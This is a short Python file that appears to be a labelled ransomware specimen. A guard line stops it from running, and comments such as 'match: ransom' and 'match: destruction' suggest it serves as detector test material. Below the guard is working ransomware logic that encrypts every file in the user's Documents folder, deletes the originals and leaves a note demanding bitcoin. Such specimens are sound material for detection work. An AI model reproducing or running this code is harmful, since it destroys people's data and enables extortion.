raise SystemExit("specimen: not to be run")
import os
from cryptography.fernet import Fernet

NOTE = "All your files have been encrypted. Send 0.1 bitcoin to the address below to get them back."

def begin(key):
    box = Fernet(key)
    for root, _, names in os.walk(os.path.expanduser("~/Documents")):
        for name in names:
            path = os.path.join(root, name)
            data = open(path, "rb").read()
            open(path + ".locked", "wb").write(box.encrypt(data))  # match: ransom
            os.remove(path)  # match: destruction
    open("README_DECRYPT.txt", "w").write(NOTE)
